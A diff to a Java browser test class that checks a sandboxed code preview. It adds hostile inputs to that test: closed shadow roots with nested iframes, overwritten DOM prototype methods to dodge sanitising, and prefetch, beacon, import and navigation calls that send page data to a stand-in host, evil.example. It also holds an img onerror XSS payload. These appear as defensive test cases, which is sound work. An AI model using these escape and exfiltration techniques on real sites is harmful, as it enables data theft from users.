@@ -35,6 +35,13 @@ class CodePreviewTest extends PageTest {
             inner.srcdoc = '<script>parent.postMessage(typeof RTCPeerConnection, "*")<' + '/script>';
             onmessage = ({ data }) => say('WebRTC of a document in it', data);
             document.body.append(inner);
+            const frames = '<iframe srcdoc="' + inner.srcdoc.replaceAll('"', '&quot;') + '"></iframe>';
+            attempt('shadow root', () => document.body.attachShadow({ mode: 'closed' }));
+            for (const piece of ['<div><template shadow', 'rootmode="closed">' + frames, '</template></div>']) document.write(piece);
+            for (const { prototype: owner } of [Element, NodeList, Document, MutationObserver, Function]) {
+              for (const name of ['remove', 'forEach', 'querySelectorAll', 'observe', 'call', 'apply']) owner[name] = () => [];
+            }
+            document.querySelector('p').innerHTML = frames;
             attempt('beacon', () => { navigator.sendBeacon('https://evil.example/beacon', 'x'); });
             attempt('import', () => { import('https://evil.example/import.js').catch((error) => say('import', error.name)); });
             attempt('eval', () => eval('1'));
@@ -49,7 +56,9 @@ class CodePreviewTest extends PageTest {
             setTimeout(say, 800, 'the end', '');
             """;
     private static final String MARKUP = """
-            <!doctype html><title>Secret</title><h1>Shown</h1><pre></pre>
+            <!doctype html><title>Secret</title><h1>Shown</h1><pre></pre><p></p>
+            <div><template shadowrootmode="closed"><iframe src="https://evil.example/shadow"></iframe></template></div>
+            <script type="speculationrules">{"prefetch": [{"urls": ["https://evil.example/ahead"], "eagerness": "immediate"}]}</script>
             <link rel="prefetch" href="https://evil.example/prefetch"><link rel="preload" as="image" href="https://evil.example/preload">
             <link rel="stylesheet" href="https://evil.example/style.css"><link rel="preconnect" href="https://evil.example">
             <link rel="dns-prefetch" href="https://evil.example"><style>h1 { background: url(https://evil.example/back.png) }</style>
@@ -94,8 +103,8 @@ class CodePreviewTest extends PageTest {
         for (var refused : List.of("cookie", "localStorage", "indexedDB", "parent", "parent storage", "top", "WebRTC of a frame")) {
             assertTrue(lines.contains(refused + ": SecurityError"), () -> refused + " in " + lines);
         }
-        assertTrue(lines.containsAll(List.of("origin: null", "popup: null", "WebRTC: undefinedundefined", "eval: EvalError", "import: TypeError")),
-                lines::toString);
+        assertTrue(lines.containsAll(List.of("origin: null", "popup: null", "WebRTC: undefinedundefined", "eval: EvalError", "import: TypeError",
+                "shadow root: TypeError")), lines::toString);
         assertEquals(2, lines.stream().filter("fetch: TypeError"::equals).count(), lines::toString);
         assertTrue(lines.stream().noneMatch(line -> line.startsWith("WebRTC of a document")), lines::toString);
         said.evaluate("() => { location = 'https://evil.example/?' + encodeURIComponent(document.title) }");
@@ -117,7 +126,8 @@ class CodePreviewTest extends PageTest {
 
     @Test
     void a_diagram_is_drawn_and_one_that_is_wrong_says_so() {
-        var blocks = show("```mermaid", "sequenceDiagram", "  Alice->>Bob: Hello <img src=x onerror=alert(1)>", "```", "", "```mermaid", "graph LR", "  A --", "```");
+        var blocks = show("```mermaid", "sequenceDiagram", "  Alice->>Bob: Hello <img src=x onerror=alert(1)>", "```", "",
+                "```mermaid", "graph LR", "  A --", "```");
         press(blocks.first(), "Preview");
         assertThat(frame(blocks.first()).locator("svg")).containsText("Hello <img");
         assertThat(frame(blocks.first()).locator("img")).hasCount(0);
